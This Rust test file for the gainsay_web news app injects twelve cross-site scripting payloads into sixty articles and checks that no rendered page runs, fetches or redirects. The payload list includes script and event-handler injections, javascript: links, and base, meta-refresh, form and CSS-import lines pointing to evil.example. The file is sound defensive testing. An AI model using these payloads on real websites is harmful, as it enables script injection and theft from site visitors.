//! Sixty hostile articles: whatever stands in a title, a text, a name or an address, no page runs it, fetches it or
//! becomes other than it was.
#![allow(clippy::disallowed_methods, reason = "these tests write the articles they read")]

mod common;

use std::{collections::BTreeMap, fs};

use axum::http::StatusCode;
use common::{all_pages, get, shelf_of};
use dom_query::Document;
use gainsay_web::{Settings, router};
use serde_json::json;

/// What an article may hold to become markup or to run.
const PAYLOADS: [&str; 12] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "</title></style></textarea><svg onload=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">press</a>",
    "<base href=//evil.example/><meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<form action=//evil.example><button>go</button></form>",
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example) }</style>",
    "--><!--[if IE]><script>alert(1)</script><![endif]-->]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "\u{202e}<math><mtext></mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
];

/// The places in an article where a payload is put.
const PLACES: [&str; 5] = ["title", "text", "quotation", "outlet", "address"];

fn article(place: &str, payload: &str, at: usize) -> serde_json::Value {
    let put = |wanted: &str, text: &str| if place == wanted { format!("{text} {payload}") } else { text.to_owned() };
    let text = format!(
        "The harbour ministry closed the grain quay number {at} on Monday, Lina Brandt said. {}\n\n“{}” the harbour master, \
         Osmund Linde, told reporters on Tuesday. The union denied that the quay was closed.",
        put("text", "Two cranes fell into the water."),
        put("quotation", "Nobody was hurt when the quay was closed,"),
    );
    let address = if place == "address" { payload.to_owned() } else { format!("https://paper.example/{at}") };
    json!({
        "title": put("title", &format!("Grain quay {at} closed")),
        "maintext": text,
        "source_domain": put("outlet", "paper.example"),
        "authors": [put("outlet", "Ada Ferro")],
        "url": address,
        "date_publish": "2025-03-04 08:00:00",
        "language": "en",
    })
}

/// Whatever a browser would act on that the app did not put there.
fn faults(page: &str) -> Vec<String> {
    let document = Document::from(page);
    let mut faults = Vec::new();
    for node in document.select("*").nodes() {
        let name = node.node_name().unwrap_or_default().to_string();
        let attributes: BTreeMap<String, String> = node
            .attrs()
            .iter()
            .map(|attribute| (attribute.name.local.to_string(), attribute.value.to_string()))
            .collect();
        if ["iframe", "object", "embed", "base", "img", "math", "style", "video", "audio", "frame", "applet"]
            .contains(&name.as_str())
        {
            faults.push(format!("<{name}>"));
        }
        if name == "script" && attributes.get("src").map(String::as_str) != Some("/assets/app.js") {
            faults.push("a script".to_owned());
        }
        if name == "meta" && attributes.contains_key("http-equiv") {
            faults.push("a meta that acts".to_owned());
        }
        for (key, value) in &attributes {
            let leads = ["href", "src", "action", "formaction", "xlink:href", "data", "poster"].contains(&key.as_str());
            let is_own = value.starts_with(['/', '#', '?']) && !value.starts_with("//");
            let is_web = key == "href" && (value.starts_with("https://") || value.starts_with("http://"));
            if key.starts_with("on") || key == "style" || key == "srcdoc" || (leads && !is_own && !is_web) {
                faults.push(format!("{name} {key}={value}"));
            }
        }
    }
    faults
}

#[test]
fn the_check_itself_finds_what_acts() {
    for payload in PAYLOADS.iter().take(9) {
        let page = format!("<!DOCTYPE html><body><p title=\"{payload}\">{payload}</p><p title='{payload}'></p></body>");
        assert!(!faults(&page).is_empty(), "{payload}");
    }
}

#[tokio::test]
async fn sixty_hostile_articles_stay_text() {
    let folder = tempfile::tempdir().expect("a folder");
    let mut count = 0;
    for payload in PAYLOADS {
        for place in PLACES {
            let file = folder.path().join(format!("{count:02}.json"));
            fs::write(file, article(place, payload, count).to_string()).expect("an article is written");
            count += 1;
        }
    }
    assert_eq!(count, 60);
    let router = router(shelf_of(folder.path()), Settings::loopback(0));
    let stories = get(&router, "/api/v1/stories?per_page=200").await.json();
    let stories = stories["items"].as_array().expect("stories").clone();
    let articles: u64 = stories.iter().filter_map(|story| story["articles"].as_u64()).sum();
    assert!(articles >= 50, "only {articles} of the articles are in stories");
    let mut seen = 0;
    for story in stories {
        let story = story["id"].as_str().expect("an id");
        for address in all_pages(&router, story).await {
            let page = get(&router, &address).await;
            assert_eq!(page.status, StatusCode::OK, "{address}");
            assert_eq!(faults(&page.body), Vec::<String>::new(), "{address}");
            seen += 1;
        }
        let file = get(&router, &format!("/story/{story}/dossier.html")).await.body;
        let acting: Vec<String> =
            faults(&file).into_iter().filter(|fault| fault != "<style>" && fault != "a meta that acts").collect();
        assert_eq!(acting, Vec::<String>::new(), "{story} as one file");
    }
    assert!(seen > 100, "only {seen} pages were looked at");
}
